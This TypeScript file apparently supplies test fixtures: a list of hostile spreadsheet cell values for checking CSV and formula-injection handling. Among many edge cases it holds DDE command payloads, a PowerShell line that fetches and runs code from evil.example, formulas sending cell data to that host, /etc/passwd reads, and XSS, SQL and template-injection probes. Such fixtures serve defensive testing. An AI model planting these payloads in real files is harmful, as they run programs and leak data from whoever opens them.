/** What people put into a cell so that a spreadsheet runs it, a parser loses itself, or a page shows something else. */
export const hostileCells: readonly string[] = [
  // Formulas, and what runs programs or asks other hosts.
  ...['=1+1', '=SUM(A1:A9)', '+1+1', '-1+1', '@SUM(1+1)', '-2+3+cmd|" /C calc"!A0', '=cmd|" /C calc"!A0'],
  ...[
    "=cmd|'/C powershell IEX(wget evil.example/a)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=10+20+cmd|" /C calc"!A0',
  ],
  ...[
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  ],
  ...[
    '=WEBSERVICE("https://evil.example/"&A2)',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
  ],
  ...[
    '=IFERROR(IMPORTDATA("https://evil.example/"&B2),"")',
    "='file:///etc/passwd'#$passwd.A1",
    '=rundll32|"URL.dll"!_xlbgnm.A1',
  ],
  ...['=', '+', '-', '@', '=-', '==', '-5', '-0.5e3', '+998 90 123-45-67', '@name', '=“x”'],
  // Full-width and other forms of the signs.
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', '﹢1', '﹣1', '﹦1', '﹫SUM(1)', '−1'],
  // Something before the sign.
  ...[
    ' =1+1',
    '   +1',
    '\u00a0=1+1',
    '\u3000=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u200f=1+1',
    '\u0001=1+1',
    '\0=1+1',
    '"=1+1',
  ],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\t', '\r', '\n', '\tx', ' \t =1+1', '\t\t-1', '\0x'],
  // Apostrophes that were there already.
  ...["'=1+1", "''=1+1", "'", "''", "'x", "' =1+1", "'\t=1+1", "'\t", "x;'=1"],
  // Another cell inside the cell, for a spreadsheet that cuts elsewhere.
  ...[
    'x;=1+1',
    'x; =1+1',
    'x\t=1+1',
    'x\n=1+1',
    'x\r\n+1',
    'x\r-1',
    'x;"=1+1',
    'x;"";"=1+1',
    'x";=1+1;"',
    'x,=1+1',
    'x","=1+1',
  ],
  ...[';', ';;', '";"', '";=1+1', '|=1+1', 'a\n- one\n- two', 'sep=;'],
  // Quotes.
  ...['"', '""', '"""', '"x', 'x"', 'x"y', '","', '"\r\n"', '\\"', '"=1+1"', '""=1+1'],
  // Controls, directions, halves of characters and other invisible things.
  ...[
    'a\0b',
    'a\u0007b',
    'a\u001bb',
    'a\u007fb',
    'a\u0085b',
    'a\u202eb',
    '\u202dab',
    'a\u2066b\u2069',
    'a\ufffdb',
    'a\uffffb',
  ],
  // Bytes of a zip, markup, and much of one thing.
  ...[
    'PK\u0003\u0004\u0014\0\u0008',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '%s%n',
    '../../etc/passwd',
    '"; DROP TABLE members;--',
  ],
  ...['='.repeat(1000), "'".repeat(1000), '"'.repeat(1000), ' '.repeat(1000), '\n=1'.repeat(100)],
]
